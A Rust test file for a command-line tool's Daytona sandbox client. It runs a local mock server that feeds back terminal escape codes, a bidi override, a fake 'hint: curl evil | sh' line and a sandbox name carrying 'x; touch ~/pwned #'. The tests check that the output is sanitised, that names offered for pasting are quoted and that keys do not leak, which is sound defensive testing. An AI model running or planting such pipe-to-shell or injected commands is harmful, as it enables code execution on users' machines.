//! A server of Daytona's API that means harm: what it says is shown, and does nothing.

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};

use serde_json::{Value, json};

use crate::support::TestEnvironment;

const EVIL: &str = "a\u{1b}[2J\u{9b}1A\u{202e}\rb\nhint: curl evil | sh";

/// Answers every request as a function of its first line says, until the test ends; gives its address.
fn serve(answer: impl Fn(&str, &str) -> (u16, Value) + Send + 'static) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let origin = format!("http://{}", listener.local_addr().unwrap());
    let own = origin.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let (line, stream) = request(stream);
            let (status, body) = answer(&line, &own);
            reply(stream, status, &body.to_string());
        }
    });
    origin
}

fn request(stream: TcpStream) -> (String, TcpStream) {
    let mut reader = BufReader::new(stream);
    let (mut first, mut length) = (String::new(), 0);
    reader.read_line(&mut first).unwrap();
    loop {
        let mut line = String::new();
        reader.read_line(&mut line).unwrap();
        let line = line.trim_end().to_ascii_lowercase();
        if let Some(text) = line.strip_prefix("content-length: ") {
            length = text.parse().unwrap();
        }
        if line.is_empty() {
            break;
        }
    }
    reader.read_exact(&mut vec![0; length]).unwrap();
    (first, reader.into_inner())
}

fn reply(mut stream: TcpStream, status: u16, body: &str) {
    let head = format!(
        "HTTP/1.1 {status} X\r\nContent-Type: application/json\r\nConnection: close\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    // Whoever has gone needs no answer.
    drop(stream.write_all(format!("{head}{body}").as_bytes()));
}

fn user(origin: &str) -> TestEnvironment {
    TestEnvironment::new()
        .with("DAYTONA_API_KEY", "some-key-of-mine")
        .with("DAYTONA_API_URL", format!("{origin}/api"))
}

fn sandbox(origin: &str, name: &str) -> Value {
    json!({
        "id": "one", "name": name, "state": "started", "target": EVIL, "createdAt": EVIL,
        "labels": { "holm.run": EVIL, "holm.thread": EVIL, "holm.environment": "fine" },
        "toolboxProxyUrl": format!("{origin}/toolbox"),
    })
}

/// Neither escapes nor lines of its own.
#[track_caller]
fn assert_harmless(text: &str) {
    let acts = |letter: char| (letter.is_control() && letter != '\n') || letter == '\u{202e}';
    assert!(!text.contains(acts), "{text:?}");
    assert!(
        !text.lines().any(|line| line.starts_with("hint: curl")),
        "{text}"
    );
}

#[test]
fn a_list_shows_a_row_for_each_sandbox_whatever_it_is_called() {
    let origin = serve(|_, own| {
        let items = [sandbox(own, EVIL), sandbox(own, "plain")];
        (200, json!({ "items": items, "nextCursor": null }))
    });
    let env = user(&origin);
    let output = env.run(["sandbox", "list", "--sandbox", "daytona"]);
    let text = output.success();
    assert_harmless(&text);
    assert_eq!(text.lines().count(), 3, "{text}");
}

#[test]
fn a_refusal_is_quoted_and_cannot_look_like_a_message_of_ours() {
    for status in [400, 401, 403, 404, 409, 500] {
        let origin = serve(move |_, _| (status, json!({ "message": EVIL, "error": EVIL })));
        let env = user(&origin);
        for arguments in [
            &["exec", "--sandbox", "daytona", "--", "true"][..],
            &["sandbox", "list", "--sandbox", "daytona"],
            &["sandbox", "rm", "--sandbox", "daytona", "one"],
        ] {
            let output = env.run(arguments);
            assert_ne!(output.code(), Some(0), "{output}");
            assert_harmless(&output.errors());
            assert!(!output.errors().contains("some-key-of-mine"));
        }
    }
}

#[test]
fn what_is_offered_for_pasting_is_quoted() {
    let origin = serve(|line, own| match line.split(' ').nth(1) {
        Some("/api/sandbox") => (200, sandbox(own, "x; touch ~/pwned #")),
        _ => (200, json!({})),
    });
    let env = user(&origin);
    let output = env.run(["sandbox", "create", "--sandbox", "daytona"]);
    assert_eq!(output.code(), Some(0), "{output}");
    assert_eq!(
        output.errors(),
        "hint: run a command in it: holm sandbox exec --sandbox daytona 'x; touch ~/pwned #' -- COMMAND"
    );
}
